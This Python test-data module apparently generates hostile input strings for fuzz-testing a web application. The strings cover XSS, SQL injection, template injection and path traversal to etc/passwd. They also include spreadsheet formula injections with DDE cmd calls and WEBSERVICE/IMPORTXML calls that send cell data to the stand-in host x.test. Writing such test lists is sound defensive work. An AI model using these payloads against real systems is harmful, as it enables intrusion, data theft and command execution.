"""Texts that programs trip over, of our own making: what people, pranksters and copy-paste put into a field.

Each kind is a few shapes times a few fillings, so that a reader sees the idea and the tests get hundreds of strings.
With ``CHARRETTE_TEST_DATA`` set to a folder with larger lists (``text/blns.json``, ``text/csv_injection.txt``), those
come on top; nothing needs them.

house: long, because a list has a line for each text.
"""

from __future__ import annotations

import json
import os
import unicodedata
from itertools import product
from pathlib import Path

WORDS = (
    *(
        "undefined",
        "null",
        "None",
        "NULL",
        "nil",
        "true",
        "False",
        "NaN",
        "Infinity",
        "-Infinity",
        "then",
        "constructor",
    ),
    *(
        "__proto__",
        "hasOwnProperty",
        "toString",
        "__class__",
        "self",
        "id",
        "CON",
        "NUL",
        "COM1",
        "aux.txt",
        "\\N",
        "[]",
    ),
    *(
        "{}",
        "()",
        "[object Object]",
        "hidden",
        "0",
        "1",
        "-1",
        "00",
        "0x0",
        "1e400",
        "-1e-400",
        "1_000",
        "1,50",
        "1.000,50",
    ),
    *(
        "99999999999999999999",
        "-0",
        "0/0",
        "1/0",
        "2026-02-30",
        "25:61",
        "#",
        "?",
        "/",
        "\\",
        "//",
        "..",
        ".",
        "~",
        "*",
    ),
    *(
        "|",
        "&",
        "&&",
        ";",
        "--",
        "/*",
        "*/",
        "<!--",
        "-->",
        "%",
        "%%",
        "%s",
        "%n",
        "%d%d%d",
        "{0}",
        "{}{}",
        "$HOME",
        "`id`",
    ),
)
SCRIPT_SHAPES = (
    *("<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</script><script>{}</script>", "<script/x>{}</script>"),
    *('<img src=x onerror="{}">', "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>"),
    *('<body onload="{}">', "<details open ontoggle={}>", '<a href="javascript:{}">klik</a>', "javascript:{}"),
    *(
        '"><script>{}</script>',
        "'><script>{}</script>",
        "' onmouseover='{}",
        '" autofocus onfocus="{}',
        "\\u003cscript\\u003e{}",
    ),
    *("<iframe srcdoc='<script>{}</script>'>", "<math><mi xlink:href='javascript:{}'>", "<style>@import '{}';</style>"),
    *(
        "<input value='' onfocus={} autofocus>",
        "<marquee onstart={}>",
        "<video><source onerror={}>",
        "<object data='{}'>",
    ),
)
SCRIPT_FILLINGS = ("alert(1)", "alert`1`", "window.seen=1", "location='//x.test'", "fetch('/api/me')", "eval(name)")
TEMPLATE_SHAPES = ("{{{{{}}}}}", "${{{}}}", "<%= {} %>", "{{% {} %}}", "#{{{}}}", "%({})s", "[[{}]]", "{{{{= {} }}}}")
TEMPLATE_FILLINGS = ("7*7", "config", "self.__init__", "request", "constructor.constructor('x')()", "''.__class__")
QUERY_SHAPES = ("' or {}--", '" or {}#', "'; {}; --", "1); {}--", "') union select {}--", "\\'; {} --")
QUERY_FILLINGS = ("1=1", "drop table ideas", "select * from people", "sleep(5)", "null,null")
PATH_SHAPES = ("../../../{}", "..\\..\\{}", "file:///{}", "/{}\x00.png", "%2e%2e/{}", "....//{}", "\\\\host\\{}", "{}/")
PATH_FILLINGS = ("etc/passwd", "windows/win.ini", "proc/self/environ", "instance/charrette.sqlite3")
MARKUP = (
    *(
        "<b>veilig",
        "meer <bankjes> graag",
        "<para>",
        "<font color='[[[[[[1]]]]]]'>",
        "<img src='/etc/passwd'/>",
        "&euro;",
    ),
    *(
        "<img src='file:///etc/hosts'>",
        "&lt;b&gt;",
        "&#0;",
        "&#x41;",
        "&unknown;",
        "&",
        "&&amp;",
        "<",
        ">",
        "</",
        "/>",
        "<>",
    ),
    *(
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY a 'b'>]>",
        "<![CDATA[x]]>",
        "]]>",
        "<a name='x'/>",
        "<link href='#'>",
    ),
    *(
        "**vet** _schuin_ `code`",
        "# kop",
        "[hier](javascript:alert(1))",
        "![x](http://x.test/x.png)",
        "> citaat",
        "1. een",
    ),
    *(
        "\\begin{x}",
        "\\input{/etc/passwd}",
        "(unclosed",
        "balanced )(",
        "obj endobj stream",
        "BT /F1 12 Tf ET",
        "<</JS (x)>>",
    ),
)
SCRIPTS = (
    *("Zażółć gęślą jaźń", "Příliš žluťoučký kůň", "Một chiếc ghế dài", "Ένα παγκάκι", "Лавка біля ставка", "Ďakujem"),
    *(
        "مقعد بجانب البركة",
        "ספסל ליד הבריכה",
        "ትግርኛ ኣብ ጥቓ",
        "तालाब के पास बेंच",
        "ม้านั่งข้างสระน้ำ",
        "池塘边的长椅",
        "池のそばのベンチ",
    ),
    *(
        "연못가의 벤치",
        "நாற்காலி",
        "ලේලිය",
        "ខ្មែរ ភាសា",
        "ພາສາລາວ",
        "მერხი ტბასთან",
        "Նստարան",
        "سیب و پرتقال ۱۲۳",
        "ĳsvrij ĲSVRIJ",
    ),
    *(
        "Straße STRASSE ẞ",
        "İstanbul ıssız",
        "ﬁets ﬂets ﬀ",
        "①②③ ½ ⅞ ², ³",
        "𝕭𝖆𝖓𝖐 𝒷𝒶𝓃𝓀",
        "Ꙭ ꙮ ﷽",
        "æ œ ø å þ ð",
        "ſ ƿ ʒ",
        "‰ † ‡ ¶ §",
    ),
    *("аррlе", "Gеmeente", "раураl", "𐍈𐌰𐌿", "𓂀 𓃠", "𠜎 𠜱 𠝹", "ǅ ǆ Ǆ", "Å Å Å", "ñ ñ", "ệ ệ", "ﬃ ﬄ"),
)
EMOJI = (
    *(
        "🌻",
        "👩‍👩‍👧‍👦",
        "👍🏿👍🏻",
        "🏳️‍🌈",
        "🇳🇱🇧🇪",
        "🇳",
        "1️⃣2️⃣",
        "☐ ☑ ☒",
        "→ ← ↔ ⇒",
        "✓ ✗ ★",
        "🧑🏽‍🚀",
        "❤️ ❤",
        "☺︎ ☺️",
        "⚠️",
        "🚲" * 40,
    ),
    *("(╯°□°)╯︵ ┻━┻", "¯\\_(ツ)_/¯", "ʕ•ᴥ•ʔ", "🫠🪩🫎", "⏳⌛️", "♻️", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🏿", "\u200d👧", "👧\u200d"),
)
INVISIBLE_SHAPES = ("{}bankje", "bank{}je", "bankje{}", "{0}bank{0}je{0}")
INVISIBLE = (
    *("\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067"),
    *(
        "\u2069",
        "\u00ad",
        "\ufeff",
        "\u2060",
        "\u180e",
        "\u115f",
        "\u3164",
        "\u00a0",
        "\u2003",
        "\u3000",
        "\u2028",
        "\u2029",
    ),
    *("\u0301" * 30, "\u0489" * 60, "\ufe0f", "\U000e0041", "\u034f"),
)
CONTROLS = (
    "\x00",
    "\x01",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\x9b",
    "\ufffe",
    "\uffff",
    "\x1e",
)
CONTROL_SHAPES = ("a{}b", "{}a", "a{}")
LONG = (
    "w" * 280,
    "Langewoord" * 28,
    "ij" * 200,
    "a " * 200,
    "- " * 150,
    "\n".join("regel" for _ in range(40)),
    "é" * 400,
)
FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.test","klik")',
        "=",
        "+",
        "-",
        "@",
    ),
    *('=IMPORTXML(CONCAT("http://x.test/",A1),"//a")', '=WEBSERVICE("http://x.test")', '=DDE("cmd";"/C x";"x")'),
    *(
        "  =1+1",
        "=  1+1",
        "=A1&B1",
        "=2+5+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+31 528 29 19 11",
        "-3 graden",
    ),
    *("=rundll32|'URL.dll,OpenURL x.test'!A", "–1", "−1", 'DDE ("cmd";"/C calc";"!A0")A0', "=\u200b1+1", "='x'!A1"),
)
TABLES = (
    "a,b;c\td",
    'zeg "ja"',
    '""',
    '","',
    "a\r\nb",
    "a\nb",
    "a\rb",
    "\ta",
    "a\t",
    "'",
    "''",
    "a'b\"c`d",
    '{"a": [1, 2]}',
)


def _times(shapes: tuple[str, ...], fillings: tuple[str, ...]) -> list[str]:
    return [shape.format(filling) for shape, filling in product(shapes, fillings)]


def our_strings() -> list[str]:
    """Return our own hostile strings, none of them blank, none twice."""
    found = [
        *WORDS,
        *_times(SCRIPT_SHAPES, SCRIPT_FILLINGS),
        *_times(TEMPLATE_SHAPES, TEMPLATE_FILLINGS),
        *_times(QUERY_SHAPES, QUERY_FILLINGS),
        *_times(PATH_SHAPES, PATH_FILLINGS),
        *MARKUP,
        *SCRIPTS,
        *EMOJI,
        *_times(INVISIBLE_SHAPES, INVISIBLE),
        *_times(CONTROL_SHAPES, CONTROLS),
        *LONG,
        *FORMULAS,
        *TABLES,
    ]
    return [text for text in dict.fromkeys(found) if text.strip()]


def _more(name: str) -> str | None:
    """Return a larger list from beside the project, where one was pointed out."""
    folder = os.environ.get("CHARRETTE_TEST_DATA")
    return (Path(folder) / name).read_text("utf-8") if folder else None


def hostile_strings() -> list[str]:
    """Return all hostile strings there are."""
    more = _more("text/blns.json")
    strings = [*our_strings(), *(json.loads(more) if more else [])]
    return [text for text in dict.fromkeys(strings) if text.strip()]


def formula_cells() -> list[str]:
    """Return cells that a spreadsheet might take for a formula."""
    return [*FORMULAS, *(_more("text/csv_injection.txt") or "").splitlines()]


def as_kept(text: str) -> str:
    """Return how a text is kept: composed (NFC), and with a mark for what no database can hold."""
    return unicodedata.normalize("NFC", text.replace("\x00", "\ufffd"))
